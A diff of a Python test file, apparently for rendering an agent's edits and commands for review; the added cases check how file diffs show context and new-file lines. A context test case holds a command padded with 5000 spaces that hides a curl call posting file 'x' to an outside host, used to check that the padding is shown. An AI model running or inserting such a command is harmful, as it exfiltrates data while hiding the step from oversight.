@@ -83,6 +83,24 @@ async def elicited(room: Room, elicitation: Elicitation, **params: Any) -> Elici
             },
             "replace_all: true\na.py\n- x\n- y\n+ z",
         ),
+        # Lines that stay are not removed and added again.
+        (
+            {
+                "content": [
+                    {
+                        "type": "diff",
+                        "path": "a.py",
+                        "oldText": "a\nb\nc\nd\ne",
+                        "newText": "a\nB\nc\nD\nd\ne",
+                    }
+                ]
+            },
+            "a.py\n  a\n- b\n+ B\n  c\n+ D\n  d\n  e",
+        ),
+        (
+            {"content": [{"type": "diff", "path": "a.py", "oldText": None, "newText": "a\nb\n"}]},
+            "a.py\n+ a\n+ b",
+        ),
         (
             {"rawInput": {"command": f"echo hi;{' ' * 5000}curl https://example.com -d @x"}},
             "echo hi;⟨5000 spaces⟩curl https://example.com -d @x",
